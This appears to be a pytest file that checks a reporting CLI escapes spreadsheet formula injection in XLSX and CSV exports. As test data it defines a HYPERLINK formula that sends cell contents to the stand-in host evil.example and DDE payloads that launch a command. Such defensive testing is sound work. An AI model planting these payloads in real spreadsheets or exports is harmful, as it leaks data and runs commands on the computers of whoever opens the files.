"""Formula injection: unit names/ids from an extract never become live formulas.

Runs the real ``utfall report full`` (XLSX), ``utfall report regional`` and
``utfall indicators --format csv`` on data whose units are named like attacks, and
reads the outputs back with independent readers (openpyxl, the csv module).
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pyarrow as pa
import pytest
from openpyxl import load_workbook
from typer.testing import CliRunner

from tests.reports.synthetic import synthetic_tables, write_parquet
from utfall.analytics.schema import conform
from utfall.cli import app
from utfall.reports.safe_cells import neutralise, neutralise_row, neutralise_table

runner = CliRunner()
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"klicka")'
CALC = "=cmd|' /C calc'!A0"
EVIL_IDS = {"U1": CALC, "U2": "@SUM(1+1)*cmd|' /C calc'!A0"}
EVIL_NAMES = {"U1": HYPERLINK, "U2": "+1+cmd|' /C calc'!A0", "U3": "-2+3"}
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    tables = synthetic_tables(300)

    def swap(table: pa.Table, name: str) -> pa.Table:
        rows = table.to_pylist()
        for r in rows:
            if r.get("unit_id") in EVIL_IDS:
                r["unit_id"] = EVIL_IDS[r["unit_id"]]
        return conform(name, pa.Table.from_pylist(rows))

    units = tables["unit"].to_pylist()
    for u in units:
        u["name"] = EVIL_NAMES[u["unit_id"]]
    tables["unit"] = conform("unit", pa.Table.from_pylist(units))
    for name in ("unit", "contact", "procedure"):
        tables[name] = swap(tables[name], name)
    return write_parquet(tmp_path_factory.mktemp("evil") / "export", tables)


def test_helper_cases() -> None:
    assert neutralise("=1+1") == "'=1+1"
    assert neutralise(CALC) == "'" + CALC
    for lead in DANGEROUS:
        assert neutralise(lead + "x").startswith("'")
    assert neutralise("-12") == "-12" and neutralise("+1,5") == "+1,5"
    assert neutralise("-2+3") == "'-2+3"
    assert neutralise("Beroende") == "Beroende" and neutralise(7) == 7 and neutralise(None) is None
    assert neutralise_row(["a", "@x", 1.5]) == ["a", "'@x", 1.5]


def test_table_helper_covers_dictionary_columns() -> None:
    table = pa.table({"plain": ["=1+1", "ok"], "coded": pa.array([CALC, "ok"]).dictionary_encode(),
                      "n": [-1.5, 2.0]})
    safe = neutralise_table(table)
    assert safe.column("plain").to_pylist() == ["'=1+1", "ok"]
    assert safe.column("coded").to_pylist() == ["'" + CALC, "ok"]
    assert safe.column("n").to_pylist() == [-1.5, 2.0]


def test_full_report_xlsx_has_no_formula(folder: Path, tmp_path: Path) -> None:
    out = tmp_path / "full.xlsx"
    result = runner.invoke(app, ["report", "full", "--data", str(folder), "--out", str(out),
                                 "--indicators", "kva_au119,kva_du119"])
    assert result.exit_code == 0, result.output
    wb = load_workbook(out)  # formulas stay formulas (data_only=False)
    seen_names = set()
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(DANGEROUS) or cell.value.lstrip(
                        "+-").replace(",", "").replace(".", "").isdigit(), cell.value
                    if cell.value.startswith("'"):
                        seen_names.add(cell.value[1:])
    # the unit names did reach the workbook (as text), so the test saw the attack
    assert HYPERLINK in seen_names or CALC in seen_names, seen_names


def test_indicators_csv_has_no_formula_leading_field(folder: Path) -> None:
    result = runner.invoke(app, ["indicators", "--data", str(folder), "--by", "unit_id",
                                 "-i", "kva_au119", "--format", "csv"])
    assert result.exit_code == 0, result.output
    rows = list(csv.reader(io.StringIO(result.stdout)))
    assert len(rows) > 2
    fields = [f for r in rows for f in r]
    assert "'" + CALC in fields  # the unit id is there, as inert text
    for f in fields:
        if f.startswith(DANGEROUS):
            float(f.replace(",", "."))  # only plain numbers may start with + or -


def test_regional_csv_rows_are_neutralised(folder: Path) -> None:
    result = runner.invoke(app, ["report", "regional", "--data", str(folder), "--format", "csv"])
    assert result.exit_code == 0, result.output
    for row in csv.reader(io.StringIO(result.stdout)):
        for f in row:
            assert not f.startswith(("=", "@", "\t", "\r")), f
